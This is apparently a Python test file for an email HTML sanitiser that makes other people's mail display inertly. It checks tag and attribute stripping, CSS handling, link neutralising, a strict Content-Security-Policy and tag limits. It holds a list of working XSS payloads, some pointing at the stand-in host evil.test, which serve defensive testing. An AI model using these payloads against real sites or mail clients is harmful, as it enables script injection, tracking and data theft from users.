"""HTML of others is shown as it looks, and can do nothing."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from recoup.web import inert

HOSTILE = [
    "<script>alert(1)</script>",
    "<script src=https://evil.test/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.test/pixel.gif>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<svg onload=alert(1)><animate></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<form action=https://evil.test/><input name=a value=b><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<base href=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<iframe src=https://evil.test/></iframe>",
    "<object data=https://evil.test/></object><embed src=https://evil.test/>",
    "<p style=\"background:url('https://evil.test/x')\">x</p>",
    "<p style='background:url(https://evil.test/x'>x</p>",
    "<p style='color:red}</style><script>alert(1)</script>'>x</p>",
    "<p style='behavior:url(#x);-moz-binding:url(x);width:expression(alert(1))'>x</p>",
    "<p style='background:u\\72l(https://evil.test/x)'>x</p>",
    "<style>@import 'https://evil.test/x.css'; p{background:url(https://evil.test/y)}</style>",
    "<style>p{color:red}</style ><script>alert(1)</script>",
    "<style><!-- </style><img src=x onerror=alert(1)> --></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><script>alert(1)</script>'></textarea>",
    "<body onload=alert(1) background=https://evil.test/x><p>x</p>",
    "<table background=https://evil.test/x><tr><td>x</td></tr></table>",
    "<div title='\"><script>alert(1)</script>'>x</div>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<p id=confirm name=form>x</p>",
]


class Seen(HTMLParser):
    def __init__(self, document: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.styles = ""
        self._in_style = False
        self.feed(document)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        self._in_style = tag == "style"

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles += data


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_that_acts_is_left(hostile: str) -> None:
    document = inert.look(f"<p>before</p>{hostile}<p>after</p>", nonce="n").document
    seen = Seen(document)
    forbidden = {
        "script",
        "form",
        "input",
        "button",
        "iframe",
        "object",
        "embed",
        "link",
        "base",
        "svg",
        "math",
    }
    assert not forbidden & set(seen.tags)
    assert seen.tags.count("meta") == 3  # our own
    assert seen.tags.count("style") == 1
    for name, value in seen.attributes:
        assert not name.startswith("on")
        assert name not in {"style", "href", "action", "background", "id", "name"} or value in {
            "viewport",
            "color-scheme",
        }
        assert name != "src" or value.startswith("data:image/")
    assert "evil.test" not in seen.styles
    for dangerous in ("@import", "expression", "behavior", "-moz-binding", "\\", "<"):
        assert dangerous not in seen.styles
    assert "<p>before</p>" in document


def test_styles_move_into_one_sheet_and_outweigh_the_mails_own() -> None:
    html = (
        "<head><style>.a { color: blue }</style></head><body style='margin:0'>"
        "<p class='a' style='color:red; font-family: \"A;B\", sans-serif'>one</p><p style='color:red; font-family: \"A;B\", sans-serif'>two</p></body>"
    )
    look = inert.look(html, nonce="abc")
    assert '<style nonce="abc">' in look.document
    assert look.document.index(".a { color: blue }") < look.document.index("{color:red;")
    assert ':is(.look1,#x#x){color:red;font-family:"A;B", sans-serif}' in look.document
    assert '<p class="a look1">one</p><p class="look1">two</p>' in look.document
    assert '<body class="look0">' in look.document
    assert " style=" not in look.document


def test_links_are_told_and_lead_nowhere() -> None:
    look = inert.look(
        '<a href="https://a.test/?x=1&amp;y=2">go</a><a href="mailto:a@b.de">write</a>', nonce="n"
    )
    assert list(look.links) == ["https://a.test/?x=1&y=2", "mailto:a@b.de"]
    assert '<a title="Leads to https://a.test/?x=1&amp;y=2">go</a>' in look.document
    assert "href" not in look.document


def test_what_was_left_out_is_said() -> None:
    look = inert.look("<title>t</title><script>x</script><img src=https://a.test/p.gif onclick=x>", nonce="n")
    assert list(look.left_out) == ["a picture from elsewhere", "onclick of img", "script"]


def test_pictures_in_the_mail_itself_stay() -> None:
    picture = "data:image/png;base64,iVBORw0KGgo="
    look = inert.look(f'<img src="{picture}" alt="A"><p style="background:url({picture})">x</p>', nonce="n")
    assert f'<img src="{picture}" alt="A">' in look.document
    assert f"background:url({picture})" in look.document


def test_the_frame_may_do_nothing_and_stands_in_our_pages_only() -> None:
    answer = inert.framed("<p style='color:red'>x</p>")
    policy = answer.headers["Content-Security-Policy"]
    assert "unsafe" not in policy
    parts = dict(part.strip().partition(" ")[::2] for part in policy.split(";"))
    assert parts["default-src"] == "'none'"
    assert parts["sandbox"] == ""
    assert parts["frame-ancestors"] == "'self'"
    assert parts["img-src"] == "data:"
    nonce = parts["style-src"].removeprefix("'nonce-").removesuffix("'")
    assert len(nonce) >= 20
    assert f'<style nonce="{nonce}">'.encode() in bytes(answer.body)
    assert answer.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert inert.framed("x").headers["Content-Security-Policy"] != policy


def test_a_mail_of_very_many_tags_is_cut() -> None:
    look = inert.look("<b>" * 50_000, nonce="n")
    assert look.document.count("<b>") <= inert.MOST_TAGS
    assert "what comes after very many tags" in look.left_out
